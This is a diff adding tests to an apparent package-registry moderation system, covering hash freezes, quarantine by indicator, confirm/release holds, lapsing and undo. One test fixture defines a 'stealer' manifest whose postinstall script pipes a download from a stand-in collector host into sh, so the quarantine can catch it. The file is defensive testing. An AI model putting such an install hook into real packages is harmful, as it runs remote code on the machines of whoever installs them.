@@ -5,13 +5,14 @@ import { after, before, test } from 'node:test'
 import { parsePackageName, parseVersion } from '@holdfast/core'
 import {
   contain,
+  decideHold,
   freezeOwn,
   lapseMeasures,
   parseDraft,
   takeMeasure,
   undoMeasure,
 } from '../../src/flow/index.ts'
-import { nobody, operator } from '../../src/identity/index.ts'
+import { authorize, nobody, operator } from '../../src/identity/index.ts'
 import { publishDocument } from '../live.ts'
 import { get, post } from '../web/site.ts'
 import { openWorld, type Someone, type World } from '../world.ts'
@@ -166,6 +167,47 @@ test('bytes that were closed by their hash are not published', async () => {
   assert.ok(await canPublish(alice, 'seed', '1.0.0'))
 })
 
+test('bytes that are hosted already are closed by their hash, and open again with the block', async () => {
+  const { versions } = publishDocument('kept', '1.0.0') as unknown as Told
+  await world.publish(alice, 'kept', '1.0.0')
+  assert.equal(await statusOf('kept'), 200)
+  const hash = versions['1.0.0']?.dist.integrity ?? ''
+  const seen = await measure(rae, { kind: 'freeze', subject: `hash:${hash}` }, '/preview')
+  assert.deepEqual(seen.body.versions, [{ name: 'kept', version: '1.0.0' }])
+  const { body } = await measure(rae, { kind: 'freeze', subject: `hash:${hash}` })
+  assert.equal(await statusOf('kept'), 403)
+  assert.equal((await world.npm('GET /kept')).body.versions['1.0.0'], undefined)
+  await measure(rae, { id: body.id }, '/undo')
+  assert.equal(await statusOf('kept'), 200)
+})
+
+test('what is held is quarantined too, waits again when that ends, and stays closed where it was confirmed', async () => {
+  const stealer = { scripts: { postinstall: 'curl -fsS https://cdn.collector.example/a | sh' } }
+  for (const name of ['waiting', 'proven', 'cleared']) {
+    const body = publishDocument(name, '1.0.0', { manifest: stealer })
+    assert.equal((await world.npm(`PUT /${name}`, { token: alice.token, body })).status, 201)
+  }
+  const found = async (name: string) =>
+    (await world.ports.store.catalog.findVersion(parsePackageName(name), parseVersion('1.0.0'))) ?? {}
+  const before = await found('waiting')
+  const { body } = await measure(rae, { kind: 'quarantine', indicator: 'cdn.COLLECTOR.example' })
+  assert.equal(body.count, 3)
+  for (const name of ['waiting', 'proven', 'cleared']) {
+    const { status } = (await found(name)) as { status?: string }
+    assert.equal(status, 'quarantined', name)
+  }
+  const subject = (name: string) => ({ name: parsePackageName(name), version: parseVersion('1.0.0') })
+  await decideHold(world.ports, operator, 'confirm', subject('proven'), 'steals')
+  await decideHold(world.ports, operator, 'release', subject('cleared'), 'harmless')
+  await measure(rae, { id: body.id }, '/undo')
+  assert.deepEqual(await found('waiting'), before)
+  assert.deepEqual(
+    [await statusOf('waiting'), await statusOf('proven'), await statusOf('cleared')],
+    [403, 403, 200],
+  )
+  assert.equal(((await found('proven')) as { status?: string }).status, 'quarantined')
+})
+
 test('a maintainer freezes a package against everybody, and opens it again', async () => {
   await world.publish(alice, 'mine', '1.0.0')
   const own = await world.ask('POST /api/v1/measures/own', {
@@ -194,6 +236,30 @@ test('what nobody confirms lapses after four hours, what somebody confirmed stay
   assert.equal(await statusOf('brief'), 200)
   assert.equal(await statusOf('long'), 403)
   assert.ok(await canPublish(alice, 'brief', '1.0.1'))
+})
+
+test('what a process that was stopped began to close is finished, but not once its end was begun', async () => {
+  await world.publish(alice, 'half', '1.0.0')
+  const later = { ...world.ports, clock: () => world.now() + 2 * 60_000 }
+  const { body } = await measure(rae, { kind: 'quarantine', package: 'half' })
+  const { store } = world.ports
+  const grant = await authorize(world.ports, { kind: 'system', id: 'measures' }, 'measure:lapse', '')
+  const found = await store.measures.find(body.id)
+  assert.ok(found !== undefined)
+  await measure(rae, { id: body.id }, '/undo')
+  const stopped = { ...found, finishedAt: null }
+  await store.commit(grant, [], tx => tx.measures.add({ ...stopped, id: 'measure-stopped' }))
+  await store.commit(grant, [], async tx => {
+    await tx.measures.add({ ...stopped, id: 'measure-ending' })
+    await tx.measures.finish('measure-ending', world.now())
+  })
+  assert.equal(await statusOf('half'), 200)
+  await lapseMeasures(later)
+  assert.equal(await statusOf('half'), 403)
+  const closed = await store.measures.countVersions(['measure-stopped', 'measure-ending'])
+  assert.deepEqual([...closed], [['measure-stopped', 1]])
+  for (const id of ['measure-stopped', 'measure-ending']) await measure(rae, { id }, '/undo')
+  assert.equal(await statusOf('half'), 200)
 })
 
 test('the owner of the machine is the second person', async () => {
@@ -230,7 +296,7 @@ test('a yanked version is yanked again when its quarantine ends', async () => {
   const { body } = await measure(rae, { kind: 'quarantine', package: 'old' })
   await measure(rae, { id: body.id }, '/undo')
   const found = await world.ports.store.catalog.findVersion(subject.name, subject.version)
-  assert.equal(found?.status, 'yanked')
+  assert.deepEqual([found?.status, found?.reason], ['yanked', 'broken'])
   assert.equal(await statusOf('old', '1.0.1'), 200)
 })
 
